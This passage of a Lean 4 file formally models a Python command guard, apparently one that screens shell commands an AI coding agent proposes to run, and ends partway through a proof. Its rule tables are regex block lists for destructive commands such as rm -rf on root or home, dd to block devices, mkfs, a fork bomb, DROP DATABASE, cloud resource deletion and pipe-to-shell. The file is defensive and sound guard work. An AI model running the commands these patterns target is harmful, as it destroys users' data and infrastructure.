  let segment := pyStrip (preceding.drop segment_start)
  let first_word := (splitWs (segment.length + 1) segment).headD []
  if first_word.contains '/' then
    (first_word.reverse.takeWhile (fun c => c ≠ '/')).reverse
  else first_word

/-- `is_safe_wrapper_arg`: is the quoted region starting at `region_start`
an argument to a safe wrapper (or a `-m`/`--message` value, or a variable
assignment's value)? -/
def is_safe_wrapper_arg (command : List Char) (region_start : Nat) : Bool :=
  let preceding := _preceding_context command region_start
  if endsWith preceding "-m".data || endsWith preceding "--message".data then true
  else if varAssignmentSearch preceding then true
  else _SAFE_WRAPPERS.contains (segment_first_word command region_start)

/-- Ascending lexicographic order on pairs, the order of Python's
`list.sort()` on 2-tuples. -/
def pairLe (a b : Nat × Nat) : Bool :=
  a.1 < b.1 || (a.1 == b.1 && a.2 ≤ b.2)

/-- Insertion into a sorted list. -/
def insertPair (x : Nat × Nat) : List (Nat × Nat) → List (Nat × Nat)
  | [] => [x]
  | y :: ys => if pairLe x y then x :: y :: ys else y :: insertPair x ys

/-- `blank_regions.sort()` (insertion sort; ascending lexicographic). -/
def sortPairs (l : List (Nat × Nat)) : List (Nat × Nat) :=
  l.foldr insertPair []

/-- The blanking loop `for i in range(start, min(end, len(result))):
result[i] = ' '`. -/
def blankRange (l : List Char) (start stop : Nat) : List Char :=
  (List.range' start (min stop l.length - start)).foldl
    (fun acc i => acc.set i ' ') l

/-- The test `comment_start is not None and start >= comment_start`. -/
def effSkip (comment_start : Option Nat) (start : Nat) : Bool :=
  match comment_start with
  | some c => decide (c ≤ start)
  | none => false

/-- The body of the `for start, end, _ in quoted` loop of
`get_effective_command`: skip regions at or after the comment, collect the
safe-wrapper ones. -/
def effStep (command : List Char) (comment_start : Option Nat)
    (acc : List (Nat × Nat)) (r : Nat × Nat × Char) : List (Nat × Nat) :=
  if effSkip comment_start r.1 then acc
  else if is_safe_wrapper_arg command r.1 then acc ++ [(r.1, r.2.1)] else acc

/-- `get_effective_command`: blank safe quoted regions and the trailing
comment, preserving length; unchanged when nothing needs blanking. -/
def get_effective_command (command : List Char) : List Char :=
  let quoted := find_quoted_regions command
  let comment_start := find_comment_start command quoted
  let fromQuotes := quoted.foldl (effStep command comment_start) []
  let blank_regions :=
    match comment_start with
    | some c => fromQuotes ++ [(c, command.length)]
    | none => fromQuotes
  if blank_regions.isEmpty then command
  else (sortPairs blank_regions).foldl (fun res se => blankRange res se.1 se.2) command

/-- `_PIPE_TO_SHELL`: `\|\s*(?:bash|sh|zsh|dash)\s*(?:$|;|&&|\|\|)`. -/
def _PIPE_TO_SHELL : RE :=
  rcat [.lit '|', wsS, ralt [rstr "bash", rstr "sh", rstr "zsh", rstr "dash"],
        wsS, ralt [.eol, .lit ';', rstr "&&", rstr "||"]]

/-- `_LANG_DESTRUCTIVE`: per-language destructive patterns. -/
def _LANG_DESTRUCTIVE : List RE := [
  -- `os\.remove|os\.unlink|os\.rmdir|shutil\.rmtree|shutil\.move`
  ralt [rstr "os.remove", rstr "os.unlink", rstr "os.rmdir",
        rstr "shutil.rmtree", rstr "shutil.move"],
  -- `FileUtils\.rm_rf|FileUtils\.rm_r|File\.delete|Dir\.rmdir`
  ralt [rstr "FileUtils.rm_rf", rstr "FileUtils.rm_r", rstr "File.delete",
        rstr "Dir.rmdir"],
  -- `unlink|rmdir|rmtree|File::Path`
  ralt [rstr "unlink", rstr "rmdir", rstr "rmtree", rstr "File::Path"],
  -- `rmSync|rmdirSync|unlinkSync|rm\s*\(|rimraf`
  ralt [rstr "rmSync", rstr "rmdirSync", rstr "unlinkSync",
        rcat [rstr "rm", wsS, .lit '('], rstr "rimraf"],
  -- `unlink|rmdir|array_map.*unlink`
  ralt [rstr "unlink", rstr "rmdir", rcat [rstr "array_map", dotStar, rstr "unlink"]]
]

/-- The maximal `\s` run length at position `p`. -/
def wsRunLen (s : List Char) (p : Nat) : Nat :=
  ((s.drop p).takeWhile pySpace).length

/-- Attempt one alternative of `_INTERPRETER_BRIDGE`
(`(?:python3?|python2|ruby|perl|node)\s+(?:-c|-e)\s+`) at position `p`:
the named interpreter, then `\s+`, then `-c` or `-e`, then `\s+`
(both runs greedy). Returns the match end. -/
def interpTryName (s : List Char) (p : Nat) (name : List Char) : Option Nat :=
  if name.isPrefixOf (s.drop p) then
    let a := p + name.length
    let w := wsRunLen s a
    if w = 0 then none
    else
      let b := a + w
      match s.get? b, s.get? (b + 1) with
      | some '-', some c2 =>
        if c2 = 'c' || c2 = 'e' then
          let d := b + 2
          let w2 := wsRunLen s d
          if w2 = 0 then none else some (d + w2)
        else none
      | _, _ => none
  else none

/-- The interpreter names in the backtracking order of the alternation
`python3?|python2|ruby|perl|node`. -/
def interpNamesOrder : List (List Char) :=
  ["python3".data, "python".data, "python2".data, "ruby".data, "perl".data, "node".data]

/-- A match of `_INTERPRETER_BRIDGE` at position `p`: the first name
alternative that completes, as Python's backtracking would pick. -/
def interpMatchEnd (s : List Char) (p : Nat) : Option Nat :=
  (interpNamesOrder.filterMap (fun n => interpTryName s p n)).head?

/-- `_INTERPRETER_BRIDGE.finditer`: left-to-right non-overlapping match
ends. The fuel and `max` only guard termination; a match always ends
strictly after its start. -/
def interpIter (s : List Char) : Nat → Nat → List Nat
  | 0, _ => []
  | fuel + 1, p =>
    if p < s.length then
      match interpMatchEnd s p with
      | some e => e :: interpIter s fuel (max e (p + 1))
      | none => interpIter s fuel (p + 1)
    else []

/-- `_extract_argument`: the first quoted-or-unquoted argument at the start
of `text`. -/
def extract_argument (text : List Char) : Option (List Char) :=
  let t := text.dropWhile pySpace
  match t with
  | [] => none
  | c :: rest =>
    if c = '"' || c = '\'' then
      match rest.findIdx? (fun x => x == c) with
      | some i => some (rest.take i)
      | none => some rest
    else
      let stop := fun (x : Char) => x = ' ' || x = '\t' || x = ';' || x = '|' || x = '&'
      let e := (t.takeWhile (fun x => !stop x)).length
      if e > 0 then some (t.take e) else none

/-- `check_execution_bridges`: pipe-to-shell is unconditionally dangerous;
otherwise each inline-interpreter match's argument is scanned against the
per-language destructive patterns. -/
def check_execution_bridges (command : List Char) : Option (Bool × String) :=
  if research _PIPE_TO_SHELL command false then
    some (true, "Piping output to a shell interpreter executes arbitrary code.")
  else
    let ends := interpIter command (command.length + 1) 0
    let hits := ends.filterMap (fun e =>
      match extract_argument (command.drop e) with
      | some arg =>
        if arg.isEmpty then none
        else
          match _LANG_DESTRUCTIVE.find? (fun pat => research pat arg false) with
          | some _ => some arg
          | none => none
      | none => none)
    match hits.head? with
    | some arg =>
        some (true, "Destructive operation detected in inline script: " ++
          String.mk (arg.take 60))
    | none => none

end ClaudeGuard

namespace ClaudeGuard

/-!
## `guard/normalize.py`

Whitespace canonicalization, `_PATH_PREFIX` stripping, and `_ENV_PREFIX`
stripping. The two `re.sub` calls are embedded as direct scanners with
Python's leftmost, greedy match extents.
-/

/-- `_MULTI_WS.sub(' ', cmd)`: collapse each `[ \t]+` run to one space.
The fuel only guards termination; callers pass `length + 1`. -/
def multiWsSub : Nat → List Char → List Char
  | 0, _ => []
  | fuel + 1, s =>
    match s with
    | [] => []
    | c :: rest =>
      if horizWs c then ' ' :: multiWsSub fuel (rest.dropWhile horizWs)
      else c :: multiWsSub fuel rest

/-- The character class of `_PATH_PREFIX` (letters, digits, underscore,
dot, slash, hyphen). -/
def classX (c : Char) : Bool :=
  ('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z') || ('0' ≤ c && c ≤ '9') ||
    c = '_' || c = '.' || c = '/' || c = '-'

/-- Scan the class-character run from `j`, returning the last `/` position
at or after `lo` (the greedy backtracking extent of the slash-delimited
path component run in `_PATH_PREFIX`). The fuel only guards termination;
callers pass `length + 1`. -/
def pathScan (s : List Char) : Nat → Nat → Nat → Option Nat → Option Nat
  | 0, _, _, best => best
  | fuel + 1, j, lo, best =>
    match s.get? j with
    | some c =>
        if classX c then
          pathScan s fuel (j + 1) lo (if c = '/' ∧ lo ≤ j then some j else best)
        else best
    | none => best

/-- `_PATH_PREFIX.sub('', cmd)`: remove every occurrence of
`_PATH_PREFIX` (a slash-led class-character run ending in a slash,
preceded by start-of-string or whitespace), scanning left to right over the
original string. The fuel and `max` only guard termination; a match always
ends after its start. -/
def pathSubAux (s : List Char) : Nat → Nat → List Char
  | 0, _ => []
  | fuel + 1, pos =>
    if h : pos < s.length then
      let c := s.get ⟨pos, h⟩
      if c = '/' ∧ (pos = 0 ∨ (match s.get? (pos - 1) with
                               | some d => pySpace d | none => false) = true) then
        match pathScan s (s.length + 1) (pos + 1) (pos + 2) none with
        | some q => pathSubAux s fuel (max (q + 1) (pos + 1))
        | none => c :: pathSubAux s fuel (pos + 1)
      else c :: pathSubAux s fuel (pos + 1)
    else []

/-- The maximal non-`\s` run length at position `p`. -/
def nonWsRunLen (s : List Char) (p : Nat) : Nat :=
  ((s.drop p).takeWhile (fun c => !pySpace c)).length

/-- ASCII letter. -/
def isAsciiLetter (c : Char) : Bool :=
  ('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z')

/-- One repetition of `_ENV_PREFIX`'s group
`[A-Za-z_][A-Za-z0-9_]*(?:=\S+|='[^']*'|="[^"]*")\s+` at position `p`,
with Python's backtracking order (the `=\S+` branch first, each branch
requiring the trailing `\s+`). Returns the position after the repetition. -/
def envAssignEnd (s : List Char) (p : Nat) : Option Nat :=
  match s.get? p with
  | some c0 =>
    if isAsciiLetter c0 || c0 = '_' then
      let nameEnd := p + 1 + ((s.drop (p + 1)).takeWhile pyWord).length
      if s.get? nameEnd = some '=' then
        let q := nameEnd + 1
        let k := nonWsRunLen s q
        if k ≥ 1 ∧ wsRunLen s (q + k) ≥ 1 then some (q + k + wsRunLen s (q + k))
        else
          match s.get? q with
          | some '\'' =>
            (match (s.drop (q + 1)).findIdx? (fun x => x == '\'') with
             | some i =>
                let r := q + 1 + i
                if wsRunLen s (r + 1) ≥ 1 then some (r + 1 + wsRunLen s (r + 1))
                else none
             | none => none)
          | some '"' =>
            (match (s.drop (q + 1)).findIdx? (fun x => x == '"') with
             | some i =>
                let r := q + 1 + i
                if wsRunLen s (r + 1) ≥ 1 then some (r + 1 + wsRunLen s (r + 1))
                else none
             | none => none)
          | _ => none
      else none
    else none
  | none => none

/-- Iterate `(?:ASSIGN\s+)*` greedily from `p`. The fuel and `max` only
guard termination; a repetition always advances. -/
def envRepsAux (s : List Char) : Nat → Nat → Nat
  | 0, p => p
  | fuel + 1, p =>
    match envAssignEnd s p with
    | some p2 => envRepsAux s fuel (max p2 (p + 1))
    | none => p

/-- `_ENV_PREFIX.sub('', cmd)`: strip a leading `env\s+(?:ASSIGN\s+)*`. -/
def envStrip (s : List Char) : List Char :=
  if ("env".data.isPrefixOf s) ∧ wsRunLen s 3 ≥ 1 then
    s.drop (envRepsAux s (s.length + 1) (3 + wsRunLen s 3))
  else s

/-- `normalize`: strip, collapse whitespace, strip path prefixes, strip the
`env` prefix — in that order. -/
def normalize (command : List Char) : List Char :=
  let cmd := pyStrip command
  let cmd := multiWsSub (cmd.length + 1) cmd
  let cmd := pathSubAux cmd (cmd.length + 1) 0
  let cmd := envStrip cmd
  cmd

end ClaudeGuard

namespace ClaudeGuard

/-!
## `guard/packs/`

The pack registry. Each pack module calls `register_tier1` / `register_tier2`
/ `register_allowlist` at import time, appending `(compiled_regex, ...)`
tuples to the module-level tables; rules are kept here as their pattern
strings plus metadata. `load_all` ("Import all pack modules to trigger
registration") imports only `guard.packs.core`, so after `load_all` the
tables hold exactly core's registrations, in file order.
-/

/-- The `register_tier1` calls of `guard/packs/core.py`, in file order. -/
def core_tier1 : List (String × String × String) := [
  ("rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+/\\s|rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+/\\s|rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+/\\*|rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+/\\*|rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+/$",
   "filesystem",
   "rm -rf on root filesystem is CATASTROPHIC. This will NOT be executed."),
  ("rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+~/?\\s|rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+~/?\\s|rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+~/?\\*|rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+~/?\\*|rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+~/?$|rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+~/?$|rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+\\$HOME/?|rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+\\$HOME/?",
   "filesystem",
   "rm -rf on home directory is CATASTROPHIC. This will NOT be executed."),
  ("dd\\s+.*of=/dev/",
   "disk",
   "dd to a block device can destroy disk partitions. This will NOT be executed."),
  ("mkfs\\.",
   "disk",
   "mkfs formats a filesystem, destroying all data. This will NOT be executed."),
  ("fdisk\\s+/dev/",
   "disk",
   "fdisk modifies disk partition tables. This will NOT be executed."),
  ("(?i)DROP\\s+DATABASE",
   "database",
   "DROP DATABASE destroys an entire database. This will NOT be executed."),
  ("(?i)DROP\\s+SCHEMA",
   "database",
   "DROP SCHEMA destroys an entire schema. This will NOT be executed."),
  (":\\(\\)\\s*\\\x7b\\s*:\\|:\\s*&\\s*\\\x7d\\s*;|fork\\s+while\\s+fork|while\\s+true\\s*;\\s*do\\s+fork",
   "shell",
   "Fork bomb / shell DoS detected. This will NOT be executed."),
  ("kubectl\\s+delete\\s+namespace",
   "kubernetes",
   "Deleting a Kubernetes namespace destroys all resources in it. This will NOT be executed."),
  ("kubectl\\s+delete\\s+.*--all",
   "kubernetes",
   "kubectl delete --all removes all resources of that type. This will NOT be executed.")
]

/-- The `register_tier2` calls of `guard/packs/core.py`, in file order. -/
def core_tier2 : List (String × String × String × String) := [
  ("git\\s+push\\s+.*--force(?![-a-z])",
   "git",
   "Force push can destroy remote history.",
   "Use --force-with-lease instead: it fails if someone else pushed."),
  ("git\\s+push\\s+.*-f\\b",
   "git",
   "Force push (-f) can destroy remote history.",
   "Use --force-with-lease instead: it fails if someone else pushed."),
  ("git\\s+reset\\s+--hard",
   "git",
   "git reset --hard destroys uncommitted changes.",
   "Use 'git stash' first to save changes, then reset."),
  ("git\\s+reset\\s+--merge",
   "git",
   "git reset --merge can lose uncommitted changes.",
   "Use 'git stash' first to save changes, then reset."),
  ("git\\s+checkout\\s+--\\s+\\.",
   "git",
   "git checkout -- . discards all uncommitted changes.",
   "Use 'git stash' to save changes, or 'git diff' to review first."),
  ("git\\s+checkout\\s+--\\s+",
   "git",
   "git checkout -- <path> discards uncommitted changes to that path.",
   "Use 'git stash' first, or 'git diff <path>' to review changes."),
  ("git\\s+restore\\s+(?!--staged\\b)(?!-S\\b)(?!.*--staged)",
   "git",
   "git restore discards uncommitted changes.",
   "Use 'git restore --staged' to unstage, or 'git stash' to save changes."),
  ("git\\s+clean\\s+-[a-z]*f",
   "git",
   "git clean -f removes untracked files permanently.",
   "Run 'git clean -n' first (dry run) to see what would be removed."),
  ("git\\s+branch\\s+-D\\b",
   "git",
   "git branch -D force-deletes without checking if the branch is merged.",
   "Use 'git branch -d' instead: it only deletes if the branch is merged."),
  ("git\\s+stash\\s+drop",
   "git",
   "git stash drop permanently deletes a stashed change.",
   "Run 'git stash list' first to review what would be lost."),
  ("git\\s+stash\\s+clear",
   "git",
   "git stash clear permanently deletes ALL stashed changes.",
   "Run 'git stash list' first to review what would be lost."),
  ("git\\s+commit\\s+.*--no-verify",
   "git",
   "Skipping pre-commit hooks bypasses safety checks.",
   "Remove --no-verify and fix any hook failures instead."),
  ("git\\s+push\\s+.*--no-verify",
   "git",
   "Skipping pre-push hooks bypasses safety checks.",
   "Remove --no-verify and fix any hook failures instead."),
  ("rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f|rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR]",
   "filesystem",
   "rm -rf is destructive and irreversible.",
   "List the directory contents first, then ask the user to confirm deletion."),
  ("rm\\s+(-[a-zA-Z]+\\s+)*-[rR]\\s+(-[a-zA-Z]+\\s+)*-f|rm\\s+(-[a-zA-Z]+\\s+)*-f\\s+(-[a-zA-Z]+\\s+)*-[rR]",
   "filesystem",
   "rm with separate -r -f flags is destructive.",
   "List the directory contents first, then ask the user to confirm deletion."),
  ("rm\\s+.*--recursive.*--force|rm\\s+.*--force.*--recursive",
   "filesystem",
   "rm --recursive --force is destructive.",
   "List the directory contents first, then ask the user to confirm deletion."),
  ("docker\\s+system\\s+prune",
   "docker",
   "docker system prune removes unused containers, networks, images, and optionally volumes.",
   "Run 'docker system prune --dry-run' first to see what would be removed."),
  ("docker\\s+rm\\s+-f|docker\\s+rm\\s+--force",
   "docker",
   "docker rm -f force-removes running containers.",
   "Use 'docker stop' first, then 'docker rm' without --force."),
  ("docker\\s+volume\\s+rm",
   "docker",
   "docker volume rm permanently deletes volume data.",
   "Run 'docker volume ls' first to review, and confirm with the user."),
  ("docker\\s+network\\s+rm",
   "docker",
   "docker network rm removes a network and disconnects containers.",
   "Run 'docker network ls' first to review, and confirm with the user."),
  ("docker\\s+compose\\s+down\\s+.*-v|docker-compose\\s+down\\s+.*-v",
   "docker",
   "docker compose down -v destroys all named volumes.",
   "Use 'docker compose down' without -v to preserve volume data."),
  ("docker\\s+rmi\\s+-f|docker\\s+rmi\\s+--force",
   "docker",
   "docker rmi -f force-removes images even if containers use them.",
   "Use 'docker rmi' without --force for safe removal."),
  ("chmod\\s+777\\b|chmod\\s+-R\\s+777\\b|chmod\\s+.*777\\b",
   "permissions",
   "chmod 777 makes files world-readable, writable, and executable.",
   "Use specific permissions: 755 for directories, 644 for files."),
  ("(?i)DROP\\s+TABLE",
   "database",
   "DROP TABLE permanently removes a table and its data.",
   "Add IF EXISTS and confirm the table name with the user first."),
  ("(?i)TRUNCATE\\s+",
   "database",
   "TRUNCATE removes all rows from a table.",
   "Use DELETE with a WHERE clause for targeted removal, or confirm with the user."),
  ("(?i)DELETE\\s+FROM\\s+\\w+\\s*(?:;|$)",
   "database",
   "DELETE FROM without WHERE removes all rows.",
   "Add a WHERE clause, or confirm with the user that all rows should be deleted."),
  ("kubectl\\s+delete\\s+(?!namespace\\b)(?!--all\\b)",
   "kubernetes",
   "kubectl delete removes Kubernetes resources.",
   "Use 'kubectl delete --dry-run=client' first to preview, and confirm with the user.")
]

/-- The `register_allowlist` calls of `guard/packs/core.py`, in file order. -/
def core_allowlist : List String := [
  "git\\s+checkout\\s+-b\\s+",
  "git\\s+checkout\\s+--orphan\\s+",
  "git\\s+restore\\s+--staged\\s+(?!.*--worktree)(?!.*-W\\b)",
  "git\\s+restore\\s+-S\\s+(?!.*--worktree)(?!.*-W\\b)",
  "git\\s+clean\\s+-n",
  "git\\s+clean\\s+--dry-run",
  "git\\s+push\\s+.*--force-with-lease",
  "git\\s+push\\s+.*--force-if-includes",
  "rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+/tmp/",
  "rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+/tmp/",
  "rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+/var/tmp/",
  "rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+/var/tmp/",
  "rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+\\$TMPDIR/",
  "rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+\\$TMPDIR/",
  "rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+\\$\\\x7bTMPDIR",
  "rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+\\$\\\x7bTMPDIR",
  "rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+\"\\$TMPDIR/",
  "rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+\"\\$TMPDIR/",
  "rm\\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*\\s+\"\\$\\\x7bTMPDIR",
  "rm\\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*\\s+\"\\$\\\x7bTMPDIR",
  "rm\\s+(-[a-zA-Z]+\\s+)*-[rR]\\s+(-[a-zA-Z]+\\s+)*-f\\s+/tmp/",
  "rm\\s+(-[a-zA-Z]+\\s+)*-f\\s+(-[a-zA-Z]+\\s+)*-[rR]\\s+/tmp/",
  "rm\\s+(-[a-zA-Z]+\\s+)*-[rR]\\s+(-[a-zA-Z]+\\s+)*-f\\s+/var/tmp/",
  "rm\\s+(-[a-zA-Z]+\\s+)*-f\\s+(-[a-zA-Z]+\\s+)*-[rR]\\s+/var/tmp/",
  "rm\\s+.*--recursive.*--force\\s+/tmp/",
  "rm\\s+.*--force.*--recursive\\s+/tmp/",
  "rm\\s+.*--recursive.*--force\\s+/var/tmp/",
  "rm\\s+.*--force.*--recursive\\s+/var/tmp/",
  "docker\\s+system\\s+prune\\s+.*--dry-run",
  "kubectl\\s+delete\\s+.*--dry-run",
  "(?i)DROP\\s+TABLE\\s+IF\\s+EXISTS.*--.*test",
  "(?i)CREATE\\s+.*DROP"
]

/-- The `register_tier1` calls of `guard/packs/cicd.py`, in file order. -/
def cicd_tier1 : List (String × String × String) := [
  ("gh\\s+repo\\s+delete",
   "cicd",
   "Deleting a GitHub repository is permanent and destroys all code, issues, and PRs. This will NOT be executed.")
]

/-- The `register_tier2` calls of `guard/packs/cicd.py`, in file order. -/
def cicd_tier2 : List (String × String × String × String) := [
  ("gh\\s+release\\s+delete",
   "cicd",
   "Deleting a release removes the release and its assets.",
   "Run 'gh release list' first to review releases."),
  ("gh\\s+secret\\s+delete",
   "cicd",
   "Deleting a secret removes it from the repository.",
   "Run 'gh secret list' first to review secrets.")
]

/-- The `register_tier1` calls of `guard/packs/cloud.py`, in file order. -/
def cloud_tier1 : List (String × String × String) := [
  ("aws\\s+ec2\\s+terminate-instances",
   "cloud",
   "Terminating EC2 instances destroys them permanently. This will NOT be executed."),
  ("aws\\s+rds\\s+delete-db-cluster",
   "cloud",
   "Deleting an RDS cluster destroys the database and all data. This will NOT be executed."),
  ("aws\\s+rds\\s+delete-db-instance",
   "cloud",
   "Deleting an RDS instance destroys the database. This will NOT be executed."),
  ("gcloud\\s+projects\\s+delete",
   "cloud",
   "Deleting a GCP project destroys all resources in it. This will NOT be executed.")
]

/-- The `register_tier2` calls of `guard/packs/cloud.py`, in file order. -/
def cloud_tier2 : List (String × String × String × String) := [
  ("aws\\s+s3\\s+rm\\s+.*--recursive",
   "cloud",
   "aws s3 rm --recursive deletes all objects in the path.",
   "Run 'aws s3 ls <path>' first to review, or add --dryrun to preview deletions."),
  ("aws\\s+s3\\s+rb\\s+.*--force",
   "cloud",
   "aws s3 rb --force empties and deletes the entire bucket.",
   "Run 'aws s3 ls <bucket>' first to review contents."),
  ("gcloud\\s+compute\\s+instances\\s+delete",
   "cloud",
   "Deleting compute instances destroys them.",
   "Run 'gcloud compute instances list' first to review."),
  ("gcloud\\s+sql\\s+instances\\s+delete",
   "cloud",
   "Deleting a Cloud SQL instance destroys the database.",
   "Run 'gcloud sql instances list' first to review."),
  ("gsutil\\s+rm\\s+-r",
   "cloud",
   "gsutil rm -r recursively deletes all objects.",
   "Run 'gsutil ls <path>' first to review contents."),
  ("az\\s+group\\s+delete",
   "cloud",
   "Deleting a resource group destroys all resources in it.",
   "Run 'az group show --name <name>' first to review, or add --dry-run."),
  ("az\\s+vm\\s+delete",
   "cloud",
   "Deleting a VM destroys it.",
   "Run 'az vm show' first to review."),
  ("az\\s+storage\\s+account\\s+delete",
   "cloud",
   "Deleting a storage account destroys all data in it.",
   "Run 'az storage account show' first to review."),
  ("az\\s+sql\\s+server\\s+delete",
   "cloud",
   "Deleting a SQL server destroys all databases on it.",
   "Run 'az sql server show' first to review.")
]

/-- The `register_allowlist` calls of `guard/packs/cloud.py`, in file order. -/
def cloud_allowlist : List String := [
  "aws\\s+s3\\s+rm\\s+.*--dryrun",
  "az\\s+group\\s+delete\\s+.*--dry-run"
]

/-- The `register_tier1` calls of `guard/packs/dns.py`, in file order. -/
def dns_tier1 : List (String × String × String) := [
  ("aws\\s+route53\\s+delete-hosted-zone",
   "dns",
   "Deleting a Route53 hosted zone removes all DNS records. This will NOT be executed.")
]

/-- The `register_tier2` calls of `guard/packs/dns.py`, in file order. -/
def dns_tier2 : List (String × String × String × String) := [
  ("aws\\s+route53\\s+change-resource-record-sets\\s+.*\"DELETE\"",
   "dns",
   "Deleting Route53 DNS records can break service resolution.",
   "Run 'aws route53 list-resource-record-sets' first to review records."),
  ("gcloud\\s+dns\\s+managed-zones\\s+delete",
   "dns",
   "Deleting a Cloud DNS zone removes all DNS records.",
   "Run 'gcloud dns managed-zones list' first to review."),
  ("az\\s+network\\s+dns\\s+zone\\s+delete",
   "dns",
   "Deleting an Azure DNS zone removes all DNS records.",
   "Run 'az network dns zone list' first to review.")
]

/-- The `register_tier2` calls of `guard/packs/infra.py`, in file order. -/
def infra_tier2 : List (String × String × String × String) := [
  ("terraform\\s+destroy",
   "infra",
   "terraform destroy removes all managed infrastructure.",
   "Run 'terraform plan -destroy' first to preview what would be destroyed."),
  ("terraform\\s+apply\\s+.*-destroy",
   "infra",
   "terraform apply -destroy removes all managed infrastructure.",
   "Run 'terraform plan -destroy' first to preview what would be destroyed."),
  ("pulumi\\s+destroy",
   "infra",
   "pulumi destroy removes all managed infrastructure.",
   "Run 'pulumi preview --destroy' first to preview what would be destroyed."),
  ("cdk\\s+destroy",
   "infra",
   "cdk destroy removes all CloudFormation stacks and their resources.",
   "Run 'cdk diff' first to review the current state.")
]

/-- The Tier 1 table after `load_all`: only `core` is imported. -/
def load_all_tier1 : List (String × String × String) := core_tier1

/-- The Tier 2 table after `load_all`: only `core` is imported. -/
def load_all_tier2 : List (String × String × String × String) := core_tier2

/-- The allowlist table after `load_all`: only `core` is imported. -/
def load_all_allowlist : List String := core_allowlist

end ClaudeGuard

namespace ClaudeGuard

/-!
## Shared lemmas

Pointwise and length facts about the blanking machinery, membership facts
about the region-collection fold and the sort, and the region-end bounds of
the quote scanner.
-/

/-- The length of a list is unchanged by the blanking fold. -/
theorem foldl_set_length (idxs : List Nat) (l : List Char) :
    (idxs.foldl (fun acc j => acc.set j ' ') l).length = l.length := by
  induction idxs generalizing l with
  | nil => rfl
  | cons j rest ih => simp [List.foldl_cons, ih, List.length_set]

/-- Pointwise description of the blanking fold. -/
theorem foldl_set_get? (idxs : List Nat) (l : List Char) (i : Nat) :
    (idxs.foldl (fun acc j => acc.set j ' ') l).get? i =
      if i ∈ idxs ∧ i < l.length then some ' ' else l.get? i := by
  induction idxs generalizing l with
  | nil => simp
  | cons j rest ih =>
      simp only [List.foldl_cons]
      rw [ih, List.length_set]
      by_cases hrest : i ∈ rest <;> by_cases hlen : i < l.length
      · rw [if_pos ⟨hrest, hlen⟩, if_pos ⟨List.mem_cons_of_mem _ hrest, hlen⟩]
      · rw [if_neg (by tauto), if_neg (by tauto),
          List.get?_eq_none.mpr (by rw [List.length_set]; omega),
          List.get?_eq_none.mpr (by omega)]
      · rw [if_neg (by tauto)]
        by_cases hj : i = j
        · subst hj
          rw [if_pos ⟨List.mem_cons_self _ _, hlen⟩]
          exact List.get?_set_eq_of_lt _ hlen
        · rw [if_neg (by simp [List.mem_cons, hj, hrest])]
          exact List.get?_set_ne _ _ (fun hh => hj hh.symm)
      · rw [if_neg (by tauto), if_neg (by tauto),
          List.get?_eq_none.mpr (by rw [List.length_set]; omega),
          List.get?_eq_none.mpr (by omega)]

/-- `blankRange` preserves length. -/
theorem blankRange_length (l : List Char) (s e : Nat) :
    (blankRange l s e).length = l.length :=
  foldl_set_length _ _

/-- Pointwise description of `blankRange`. -/
theorem blankRange_get? (l : List Char) (s e i : Nat) :
    (blankRange l s e).get? i =
      if s ≤ i ∧ i < e ∧ i < l.length then some ' ' else l.get? i := by
  unfold blankRange
  rw [foldl_set_get?]
  congr 1
  simp only [List.mem_range'_1, eq_iff_iff]
  omega

/-- Folding `blankRange` over regions preserves length. -/
theorem foldl_blankRange_length (regions : List (Nat × Nat)) (l : List Char) :
    (regions.foldl (fun res se => blankRange res se.1 se.2) l).length = l.length := by
  induction regions generalizing l with
  | nil => rfl
  | cons se rest ih => simp [List.foldl_cons, ih, blankRange_length]

/-- A blank stays blank through further blanking. -/
theorem foldl_blankRange_get?_space (regions : List (Nat × Nat)) (l : List Char)
    (i : Nat) (hsp : l.get? i = some ' ') :
    (regions.foldl (fun res se => blankRange res se.1 se.2) l).get? i = some ' ' := by
  induction regions generalizing l with
  | nil => exact hsp
  | cons se rest ih =>
      simp only [List.foldl_cons]
      refine ih _ ?_
      rw [blankRange_get?]
      split
      · rfl
      · exact hsp

/-- A position covered by some region is blank after the fold. -/
theorem foldl_blankRange_get?_cov (regions : List (Nat × Nat)) (l : List Char)
    (i : Nat) (hi : i < l.length)
    (hcov : ∃ se ∈ regions, se.1 ≤ i ∧ i < se.2) :
    (regions.foldl (fun res se => blankRange res se.1 se.2) l).get? i = some ' ' := by
